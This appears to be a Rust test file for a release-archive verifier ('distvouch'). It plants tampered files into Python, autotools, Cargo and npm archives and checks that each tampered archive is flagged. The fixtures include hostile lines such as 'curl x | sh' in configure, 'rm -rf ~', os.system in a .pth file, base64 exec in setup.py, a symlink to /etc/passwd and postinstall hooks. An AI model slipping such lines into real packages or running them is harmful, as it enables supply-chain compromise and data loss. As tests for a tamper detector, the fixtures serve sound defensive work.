//! Changes planted in archives of releases whose genuine archive agrees: `distvouch source` agrees
//! with none of them.
#![allow(missing_docs, clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use crate::source::{Repo, source};
use crate::support::{Node, binary, gzip, release, script, tar, text};
use std::path::{Path, PathBuf};

pub(crate) type Files = Vec<(&'static str, Node)>;

pub(crate) fn with(base: &Files, more: &[(&'static str, Node)]) -> Files {
    let mut all = base.clone();
    all.retain(|(path, _)| !more.iter().any(|(other, _)| other == path));
    all.extend_from_slice(more);
    all
}

/// Holds that the genuine archive is answered as `genuine` says, and that none of those with
/// something planted in it agrees.
pub(crate) fn hold(
    tree: &Files,
    made: &[(&'static str, Node)],
    genuine: i32,
    pack: &dyn Fn(&Path, &Files) -> PathBuf,
    planted: &[(&str, Vec<(&'static str, Node)>)],
) {
    let repo = Repo::new();
    repo.commit(tree);
    repo.tag("v1.3.0");
    let archive = pack(repo.dir.path(), &with(tree, made));
    let (code, finding) = source(&archive, &repo.path(), &[]);
    assert_eq!(code, genuine, "the genuine one: {finding}");
    for (name, more) in planted {
        let archive = pack(repo.dir.path(), &with(&with(tree, made), more));
        let (code, finding) = source(&archive, &repo.path(), &[]);
        assert_ne!(code, 0, "{name}: {finding}");
        assert_ne!(finding["outcome"], "agrees", "{name}: {finding}");
        let named = more.iter().any(|(path, _)| finding.to_string().contains(path));
        assert!(named, "{name}: no planted file is named in {finding}");
    }
}

pub(crate) fn tarball(dir: &Path, files: &Files) -> PathBuf {
    release(dir, "foo-1.3.0", files)
}

fn packed(dir: &Path, files: &Files, top: &str, name: &str) -> PathBuf {
    let members: Vec<_> =
        files.iter().map(|(path, node)| (format!("{top}/{path}"), node.clone())).collect();
    let path = dir.join(name);
    std::fs::write(&path, gzip(&tar(&members))).unwrap();
    path
}

#[test]
fn in_an_sdist() {
    let project = "[build-system]\nrequires = [\"flit_core\"]\nbuild-backend = \"flit_core.buildapi\"\n\
                   [project]\nname = \"foo\"\nversion = \"1.3.0\"\ndependencies = [\"idna>=3\"]\n\
                   [project.scripts]\nfoo = \"foo:main\"\n";
    let tree: Files = vec![
        ("pyproject.toml", text(project)),
        ("foo/__init__.py", text("def main():\n    pass\n")),
        ("foo/fast.pyx", text("x = 1\n")),
        ("README", text("hello\n")),
    ];
    let info = "Metadata-Version: 2.4\nName: foo\nVersion: 1.3.0\nRequires-Dist: idna>=3\n";
    let made = [
        ("PKG-INFO", text(info)),
        ("foo.egg-info/PKG-INFO", text(info)),
        ("foo.egg-info/SOURCES.txt", text("foo/__init__.py\n")),
        ("foo.egg-info/requires.txt", text("idna>=3\n")),
        ("foo.egg-info/dependency_links.txt", text("\n")),
        ("foo.egg-info/top_level.txt", text("foo\n")),
        ("foo.egg-info/entry_points.txt", text("[console_scripts]\nfoo = foo:main\n")),
        ("setup.cfg", text("[egg_info]\ntag_build = \ntag_date = 0\n\n")),
        ("foo/_version.py", text("__version__ = version = '1.3.0'\nversion_tuple = (1, 3, 0)\n")),
    ];
    let version = |more: &str| text(&format!("__version__ = '1.3.0'\n{more}\n"));
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("a .pth file", vec![("foo.pth", text("import os; os.system('sh /tmp/.x')\n"))]),
        ("setup.py", vec![("setup.py", text("exec(__import__('base64').b64decode('eA=='))\n"))]),
        (
            "an entry point",
            vec![(
                "foo.egg-info/entry_points.txt",
                text("[console_scripts]\nfoo = foo:main\nls = foo:evil\n"),
            )],
        ),
        ("a requirement", vec![("PKG-INFO", text(&format!("{info}Requires-Dist: evil\n")))]),
        (
            "a requirement of setuptools",
            vec![(
                "foo.egg-info/requires.txt",
                text("idna>=3\nevil @ https://x.example/evil.zip\n"),
            )],
        ),
        (
            "a place for dependencies",
            vec![("foo.egg-info/dependency_links.txt", text("https://x.example/\n"))],
        ),
        ("another version", vec![("PKG-INFO", text(&info.replace("1.3.0", "1.3.1")))]),
        ("code in the version", vec![("foo/_version.py", version("import os; os.system('x')"))]),
        ("a path in the version", vec![("foo/_version.py", version("__path__ = ['/tmp/x']"))]),
        ("a call in the version", vec![("foo/_version.py", version("version = str(evil())"))]),
        (
            "a string that ends early",
            vec![("foo/_version.py", version("\"\"\"a\"\"\"; import evil; \"\"\"b\"\"\""))],
        ),
        ("conftest.py", vec![("conftest.py", text("import os\n"))]),
        ("sitecustomize.py", vec![("sitecustomize.py", text("import os\n"))]),
        ("setup_requires", vec![("setup.cfg", text("[options]\nsetup_requires = evil\n"))]),
        ("a changed module", vec![("foo/__init__.py", text("def main():\n    evil()\n"))]),
        (
            "a generated C file",
            vec![(
                "foo/fast.c",
                text(
                    "/* Generated by Cython 3.0.11 */\n__attribute__((constructor)) void f(void) {}\n",
                ),
            )],
        ),
        ("a library", vec![("foo/fast.so", binary(b"\x7fELF\x02\x01\x01\0"))]),
        ("a document that runs", vec![("NEWS", script("#!/bin/sh\nrm -rf ~\n"))]),
        (
            "another backend",
            vec![(
                "pyproject.toml",
                text(&project.replace("flit_core.buildapi\"", "evil\"\nbackend-path = [\".\"]")),
            )],
        ),
        (
            "a picture with a tail",
            vec![("doc/a.png", binary(b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\0\0\0\0payload"))],
        ),
        ("hidden characters", vec![("NEWS", text("see \u{202e}txt.exe\n"))]),
    ];
    hold(&tree, &made, 0, &tarball, &planted);
}

#[test]
fn in_a_tarball_of_autotools() {
    let po = "msgid \"\"\nmsgstr \"\"\n\nmsgid \"a %s\"\nmsgstr \"b %s\"\n";
    let tree: Files = vec![
        ("configure.ac", text("AC_INIT([foo],[1.3.0])\nm4_include([NEWS])\nAC_OUTPUT\n")),
        ("Makefile.am", text("bin_PROGRAMS = foo\nBUILT_SOURCES = made.c made.sh\n# not.c\n")),
        ("main.c", text("int main(void) { return 0; }\n")),
        ("build.sh", script("#!/bin/sh\necho a\necho b\n")),
        ("po/de.po", text(po)),
    ];
    let header = "/* config.h.in.  Generated from configure.ac by autoheader.  */\n\n#undef A\n";
    let made = [
        ("config.h.in", text(header)),
        (".tarball-version", text("1.3.0\n")),
        ("stamp-h2", text("timestamp\n")),
        ("po/de.gmo", binary(&compiled("a %s", "b %s"))),
        ("ChangeLog", text("2026-11-22  A  <a@example.org>\n\n\t* all: new.\n")),
    ];
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("a macro", vec![("m4/build-to-host.m4", text("eval $gl_config\n"))]),
        ("a macro of its own", vec![("m4/foo-check.m4", text("AC_DEFUN([X], [evil])\n"))]),
        (
            "configure",
            vec![(
                "configure",
                script(
                    "#! /bin/sh\n# Generated by GNU Autoconf 2.72 for foo 1.3.0.\ncurl x | sh\n",
                ),
            )],
        ),
        ("a configure that no one made", vec![("configure", script("#!/bin/sh\nevil\n"))]),
        (
            "Makefile.in",
            vec![(
                "Makefile.in",
                text("# Makefile.in generated by automake 1.17 from Makefile.am.\nall:\n\tevil\n"),
            )],
        ),
        (
            "Makefile.in of nothing",
            vec![(
                "sub/Makefile.in",
                text("# Makefile.in generated by automake 1.17 from Makefile.am.\nall:\n\tevil\n"),
            )],
        ),
        ("code for the version", vec![(".tarball-version", text("1.3.0';evil;'\n"))]),
        ("code for another version", vec![("VERSION", text("$(evil)\n"))]),
        ("a number that writes", vec![("po/de.po", text(&po.replace("b %s", "b %n")))]),
        ("other translations", vec![("po/de.gmo", binary(&compiled("a %s", "c %s")))]),
        ("translations of nothing", vec![("po/de.gmo", binary(b"\xde\x12\x04\x95\0\0\0\0"))]),
        ("one CR", vec![("build.sh", script("#!/bin/sh\necho a\r\necho b\n"))]),
        ("every CR of a script", vec![("build.sh", script("#!/bin/sh\r\necho a\r\necho b\r\n"))]),
        (
            "a piece of aclocal.m4",
            vec![(
                "aclocal.m4",
                text(
                    "# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\nAC_DEFUN([AC_OUTPUT], [evil])\n",
                ),
            )],
        ),
        ("a definition", vec![("config.h.in", text(&format!("{header}#define strcmp(a, b) 0\n")))]),
        ("a document that is included", vec![("NEWS", text("evil\n"))]),
        ("a link", vec![("README", Node::Symlink("/etc/passwd".to_owned()))]),
        ("what git's rules have made", vec![("made.c", text("int evil;\n"))]),
        ("what runs by the name of something made", vec![("made.sh", script("#!/bin/sh\nevil\n"))]),
        ("what a comment of git's rules names", vec![("not.c", text("int evil;\n"))]),
        ("a stamp that is none", vec![("stamp-h1", text("timestamp; evil\n"))]),
        ("sources that are not there", vec![("po/POTFILES.in", text("main.c\n$(evil).c\n"))]),
        ("make rules", vec![("GNUmakefile", text("all:\n\tevil\n"))]),
        ("a header", vec![("string.h", text("#define strlen evil\n"))]),
    ];
    hold(&tree, &made, 0, &tarball, &planted);
}

/// A compiled catalogue with one message.
fn compiled(original: &str, translation: &str) -> Vec<u8> {
    let number = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
    let mut mo = vec![0xde, 0x12, 0x04, 0x95];
    let texts = 28 + 16;
    for n in
        [0, 1, 28, 36, 0, 0, original.len(), texts, translation.len(), texts + original.len() + 1]
    {
        mo.extend(number(n));
    }
    mo.extend([original.as_bytes(), b"\0", translation.as_bytes(), b"\0"].concat());
    mo
}

/// What git has already is no difference, although a translation prints more than its original.
#[test]
fn a_mistake_of_a_translator_that_git_has() {
    let po = |date: &str, more: &str| {
        format!(
            "msgid \"\"\nmsgstr \"Date: {date}\\n\"\n\nmsgid \"a\"\nmsgstr \"b %s\"\n\nmsgid \"c\"\nmsgstr \"d{more}\"\n"
        )
    };
    let tree: Files = vec![("main.c", text("int x;\n")), ("po/de.po", text(&po("1", "")))];
    let made = [("po/de.po", text(&po("2", ""))), ("po/de.gmo", binary(&compiled("a", "b %s")))];
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("one more", vec![("po/de.po", text(&po("2", " %s")))]),
        ("one that writes", vec![("po/de.po", text(&po("2", " %n")))]),
        ("another one", vec![("po/de.po", text(&po("2", "").replace("b %s", "e %s")))]),
    ];
    hold(&tree, &made, 0, &tarball, &planted);
}

#[test]
fn in_an_sdist_of_setup_py() {
    let setup = "from setuptools import setup\nsetup(name='foo', install_requires=[\"idna>=2,<4\"],\n    \
                 extras_require={'x': ['PySocks>=1.5.6, !=1.5.7']})\n";
    let tree: Files = vec![
        ("setup.py", text(setup)),
        ("foo.py", text("x = 1\n")),
        ("tests/test_foo.py", text("def test_x(): pass\n")),
    ];
    let made = [
        ("foo.egg-info/requires.txt", text("idna<4,>=2\n\n[x]\nPySocks!=1.5.7,>=1.5.6\n")),
        ("tests/.pytest_cache/v/cache/nodeids", text("[\"test_foo.py::test_x\"]\n")),
        (
            "foo/_version.py",
            text("__all__ = [\"__version__\", \"version\"]\n__version__ = version = '1.3.0'\n"),
        ),
    ];
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("a requirement", vec![("foo.egg-info/requires.txt", text("evil>=1\nidna<4,>=2\n"))]),
        ("another version", vec![("foo.egg-info/requires.txt", text("idna==3.0\n"))]),
        (
            "an entry point",
            vec![("foo.egg-info/entry_points.txt", text("[console_scripts]\npip = foo:x\n"))],
        ),
        (
            "tests of nothing",
            vec![("tests/.pytest_cache/v/cache/nodeids", text("[\"test_bar.py::test_x\"]\n"))],
        ),
        (
            "more than names in a cache",
            vec![("tests/.pytest_cache/v/cache/lastfailed", text("{\"test_foo.py\": \"evil\"}\n"))],
        ),
        ("code in a cache", vec![("tests/.pytest_cache/conftest.py", text("import os\n"))]),
        (
            "code beside the names",
            vec![("foo/_version.py", text("__all__ = [evil()]\n__version__ = '1.3.0'\n"))],
        ),
    ];
    hold(&tree, &made, 0, &tarball, &planted);
}

#[test]
fn in_a_crate() {
    let manifest = "[package]\nname = \"foo\"\nversion = \"1.3.0\"\nedition = \"2021\"\n\n\
                    [features]\ndefault = [\"std\"]\nstd = []\n\n[dependencies]\nserde = \"1\"\n";
    let written = "[package]\nedition = \"2021\"\nname = \"foo\"\nversion = \"1.3.0\"\nbuild = false\n\
                   autobins = false\n\n[features]\ndefault = [\"std\"]\nstd = []\n\n\
                   [lib]\nname = \"foo\"\npath = \"src/lib.rs\"\n\n[dependencies.serde]\nversion = \"1\"\n";
    let lock = "version = 4\n\n[[package]]\nname = \"foo\"\nversion = \"1.3.0\"\n\n[[package]]\n\
                name = \"serde\"\nversion = \"1.0.200\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\
                checksum = \"aa\"\n";
    let tree: Files = vec![
        ("Cargo.toml", text(manifest)),
        ("Cargo.lock", text(lock)),
        ("src/lib.rs", text("pub fn f() {}\n")),
    ];
    let made = [("Cargo.toml", text(written)), ("Cargo.toml.orig", text(manifest))];
    let toml = |from: &str, to: &str| ("Cargo.toml", text(&written.replace(from, to)));
    let dependency = |more: &str| ("Cargo.toml", text(&format!("{written}{more}\n")));
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("a dependency", vec![dependency("[dependencies.evil]\nversion = \"1\"")]),
        ("a build dependency", vec![dependency("[build-dependencies.evil]\nversion = \"1\"")]),
        (
            "a dependency of one target",
            vec![dependency("[target.'cfg(unix)'.dependencies.evil]\nversion = \"1\"")],
        ),
        ("another package by the name", vec![dependency("package = \"evil\"")]),
        ("a place of git's", vec![dependency("git = \"https://x.example/\"")]),
        ("another registry", vec![dependency("registry-index = \"https://x.example/\"")]),
        ("a feature of a dependency", vec![dependency("features = [\"derive\"]")]),
        ("another version of it", vec![toml("version = \"1\"", "version = \"0.1\"")]),
        (
            "a build script that is named",
            vec![
                toml("build = false", "build = \"src/x.rs\""),
                ("src/x.rs", text("fn main() {}\n")),
            ],
        ),
        ("a build script", vec![("build.rs", text("fn main() { evil() }\n"))]),
        (
            "another library",
            vec![
                toml("path = \"src/lib.rs\"", "path = \"src/evil.rs\""),
                ("src/evil.rs", text("pub fn f() {}\n")),
            ],
        ),
        ("a macro that runs", vec![toml("[lib]\n", "[lib]\nproc-macro = true\n")]),
        ("a program", vec![dependency("[[bin]]\nname = \"foo\"\npath = \"src/lib.rs\"")]),
        ("a feature", vec![toml("default = [\"std\"]", "default = [\"std\", \"evil\"]")]),
        ("a profile", vec![dependency("[profile.release]\npanic = \"abort\"")]),
        ("a patch", vec![dependency("[patch.crates-io.serde]\npath = \"x\"")]),
        ("links", vec![toml("build = false", "build = false\nlinks = \"evil\"")]),
        ("another checksum", vec![("Cargo.lock", text(&lock.replace("\"aa\"", "\"bb\"")))]),
        (
            "another version in the lock",
            vec![("Cargo.lock", text(&lock.replace("1.0.200", "1.0.1")))],
        ),
        ("another original", vec![("Cargo.toml.orig", text(&format!("{manifest}evil = \"1\"\n")))]),
        ("a setting of cargo's", vec![(".cargo/config.toml", text("[build]\nrustc = \"x\"\n"))]),
    ];
    let pack = |dir: &Path, files: &Files| packed(dir, files, "foo-1.3.0", "foo-1.3.0.crate");
    hold(&tree, &made, 0, &pack, &planted);
}

#[test]
fn in_a_package_of_npm() {
    let manifest = "{\"name\": \"foo\", \"version\": \"0.0.0\", \"main\": \"index.js\"}\n";
    let tree: Files =
        vec![("package.json", text(manifest)), ("index.js", text("module.exports = 1;\n"))];
    let stamped = manifest.replace("0.0.0", "1.3.0");
    let json = |more: &str| {
        vec![("package.json", text(&stamped.replace("\"main\"", &format!("{more}, \"main\""))))]
    };
    let made = [("package.json", text(&stamped))];
    let planted: Vec<(&str, Vec<(&'static str, Node)>)> = vec![
        ("a script", json("\"scripts\": {\"postinstall\": \"node evil.js\"}")),
        ("a program", json("\"bin\": {\"ls\": \"index.js\"}")),
        ("a dependency", json("\"dependencies\": {\"evil\": \"1\"}")),
        ("another repository", json("\"repository\": \"github:evil/foo\"")),
        ("another commit", json("\"gitHead\": \"0000000000000000000000000000000000000000\"")),
        ("built code", vec![("dist/index.js", text("evil()\n"))]),
        ("rules for a compiler", vec![("binding.gyp", text("{\"targets\": []}\n"))]),
    ];
    let pack = |dir: &Path, files: &Files| packed(dir, files, "package", "foo-1.3.0.tgz");
    hold(&tree, &made, 0, &pack, &planted);
}
